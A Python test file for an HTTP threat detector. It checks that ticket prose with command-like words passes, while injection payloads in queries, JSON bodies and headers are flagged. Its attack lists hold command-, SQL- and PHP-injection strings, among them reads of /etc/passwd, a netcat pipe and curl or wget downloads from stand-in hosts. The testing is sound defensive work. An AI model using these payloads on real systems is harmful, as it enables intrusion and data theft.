"""User prose in request fields: command names that are English words after a separator
("; sleep well", "| id | name |"), Markdown code spans ("Use `ls -la` to list files"), and
functions named bare ("sleep()", "exp(z)", "eval()") are no attack; the attacks of the same
shape still are, in a query value, a JSON leaf and a header."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from bench.detect import benign_text
from meshward.core.observation import Observation
from meshward.core.threats import ThreatDetector
from meshward.core.threats.detector import code_spans_in_prose

DET = ThreatDetector(level=1)
FULL = ThreatDetector(level=1, prefilter=False)
CMDI = "Command.Injection"


def q(value: str) -> Observation:
    return Observation("file", path="/s", query="q=" + quote(value, ""))


def js(value: str) -> Observation:
    body = json.dumps({"ticket": {"comment": value}}).encode()
    return Observation(
        "file", method="POST", path="/t", headers=[("content-type", "application/json")], body=body
    )


def hdr(value: str) -> Observation:
    return Observation("file", path="/", headers=[("x-comment", value.replace("\n", "%0a"))])


PLACES = {"query": q, "json": js, "header": hdr}

PROSE = [
    "Use `ls -la` to list files",
    "run `cat notes.txt`",
    "Try `cat README.md`; if that fails, ping me",
    "`kill -9 1234` needs sudo on the build box",
    "> `sleep 5` and it hangs forever\nsame here",
    "The `id` field is required; see the docs",
    "use `ps aux` or `uname -a` to see what runs",
    "Good night all; sleep well",
    "Good night; sleep",
    "Refund for order 62890; kill the subscription please.",
    "Status: open; id card attached",
    "Hi team; cat food order missing!",
    "Deploy is done; time to celebrate",
    "Hi; type of issue: billing",
    "Billing question | type of issue: billing | thanks",
    "Good point; which plan am I on?",
    "Hi,\nid 4421 is missing\nThanks, Ana",
    "| id | name | type |\n|----|------|------|\n| 7 | Cat tree | gift |",
    "Dog & Cat",
    "Sleep mask | 100% silk; ping me for bulk orders",
    "The cat command is handy; cat README.md is what I use",
    "Thanks for the quick fix; ver 2.1 is affected.",
    "The `sleep()` call is fine in tests",
    "usual case: x**y computed directly as exp(y*log(x))",
    "way to fix it would be to eval() the string",
    "Change environ to automatically call putenv() and unsetenv()",
]

ATTACKS = [
    "; sleep 5",
    "x; sleep 10 #",
    "| sleep 5 |",
    "|id",
    "; id",
    "x;id;",
    "\nid\n",
    "; id | nc x 1",
    "; cat /etc/passwd",
    "; cat flag.txt",
    "&& cat notes.txt",
    ";cat${IFS}/etc/passwd",
    "; ping -c 3 127.0.0.1",
    "& ping -n 5 localhost",
    "; echo vulnerable 1",
    "|echo injectx",
    "; ps aux",
    "; which nc",
    "; kill -9 1",
    "; type c:\\boot.ini",
    "| dir c:\\",
    '; reg add "HKLM\\Software\\x y" /v a /t REG_SZ /d 0 /f',
    "; export X=1",
    "| env",
    "`id`",
    "`cat notes.txt`",
    "x`id`",
    "a@b.c`whoami`",
    "$(`cat /etc/passwd`)",
    "ping `id`",
    "`sleep 5`",
    "$(sleep well)",
    # in prose, what is dangerous anywhere still is
    "run `curl http://x.test/a.sh | sh` to install",
    "see `a; sleep 5` in the log",
]
SQL_PHP = [
    ("Path.Traversal", "Use `cat /etc/passwd` to see users"),
    ("SQL.Injection", "1 and sleep(5)"),
    ("SQL.Injection", "exp(~(select * from x))"),
    ("SQL.Injection", "row_count()"),
    ("PHP.Injection", "eval($_GET[0])"),
    ("PHP.Injection", "phpinfo()"),
]


@pytest.mark.parametrize("where", PLACES)
@pytest.mark.parametrize("value", PROSE)
def test_prose_is_clean(value: str, where: str) -> None:
    for det in (DET, FULL):
        assert not det.inspect(PLACES[where](value)).threats, (value, where)


@pytest.mark.parametrize("where", PLACES)
@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_of_the_same_shape_are_found(value: str, where: str) -> None:
    for det in (DET, FULL):
        assert CMDI in {t.name for t in det.inspect(PLACES[where](value)).threats}, (value, where)


@pytest.mark.parametrize(("name", "value"), SQL_PHP)
def test_functions_with_arguments_are_found(name: str, value: str) -> None:
    for make in PLACES.values():
        assert name in {t.name for t in DET.inspect(make(value)).threats}


def test_code_spans_are_masked_only_in_prose() -> None:
    assert code_spans_in_prose("Use `ls -la` to list") == "Use \x1fls -la\x1f to list"
    for shell in ("`id`", "x`id`", "ping `id`", "$(`ls`)", "`id` `ls`", "; `id`"):
        assert code_spans_in_prose(shell) == shell


def test_benign_text_false_positives_are_rare() -> None:
    lines = benign_text(2000, seed=11)
    flagged = [s for s in lines if DET.inspect(js(s)).threats]
    assert len(flagged) <= 0.02 * len(lines), flagged[:10]


@pytest.mark.parametrize(
    "value",
    [
        "The ls command is handy; ls -la is what I use",
        "The curl command is handy; curl -I https://example.com is what I use",
        "Good night all; echo chamber",
        "Billing question | echo chamber | thanks",
        "Status: open; echo chamber",
    ],
)
def test_a_command_in_an_english_clause_is_prose(value: str) -> None:
    assert DET.inspect(js(value)).threats == []


@pytest.mark.parametrize(
    "value",
    [
        "; ls -la /tmp",
        "127.0.0.1; echo hello > /var/www/x",
        "|echo pwned",
        "Good night all; wget http://evil.example/x.sh -O /tmp/x",
        "Status: open; echo pwned > /tmp/x",
        "The ls command is handy; ls -la is what I use; cat /etc/passwd",
    ],
)
def test_a_command_line_after_english_is_still_found(value: str) -> None:
    assert "Command.Injection" in {t.name for t in DET.inspect(js(value)).threats}
